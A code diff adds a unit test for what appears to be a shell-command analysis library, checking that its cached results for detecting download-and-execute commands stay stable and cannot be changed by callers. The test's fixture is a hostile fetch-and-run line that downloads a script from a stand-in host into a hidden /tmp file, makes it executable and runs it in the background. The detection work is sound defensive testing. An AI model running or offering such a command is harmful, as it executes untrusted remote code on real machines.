@@ -98,4 +98,28 @@ describe('paths', () => {
     expect(oddProgramPath('/usr/sbin/cron')).toBeUndefined();
     expect(oddProgramPath('relative/x')).toBeUndefined();
   });
+
+  it('gives the same answers when asked again about a text, and callers cannot change them', () => {
+    const line = 'nohup curl -s http://x.example/a.sh -o /tmp/.a.sh; chmod +x /tmp/.a.sh; /tmp/.a.sh &';
+    const first = { run: executedPaths(line), dl: downloadExec(line), targets: commandTargets(line) };
+    expect(first.run).toEqual(['curl', 'chmod', '/tmp/.a.sh']);
+    expect(first.dl).toEqual({
+      downloader: 'curl',
+      how: 'file',
+      savedTo: '/tmp/.a.sh',
+      url: 'http://x.example/a.sh',
+    });
+    first.run.push('/tmp/changed');
+    first.dl!.savedTo = '/tmp/changed';
+    expect(executedPaths(line)).toEqual(['curl', 'chmod', '/tmp/.a.sh']);
+    expect(downloadExec(line)?.savedTo).toBe('/tmp/.a.sh');
+    expect(commandTargets(line)).toEqual(first.targets);
+    expect(downloadExec('/usr/bin/true')).toBeUndefined();
+    expect(downloadExec('/usr/bin/true')).toBeUndefined();
+    // A nested text answers as before, whatever the outer calls kept.
+    expect(downloadExec(`sh -c "${line}"`)?.savedTo).toBe('/tmp/.a.sh');
+    // More texts than the memo holds: still the same answers.
+    for (let i = 0; i < 5000; i++) expect(executedPaths(`/opt/p${i} -x`)).toEqual([`/opt/p${i}`]);
+    expect(executedPaths(line)).toEqual(['curl', 'chmod', '/tmp/.a.sh']);
+  });
 });
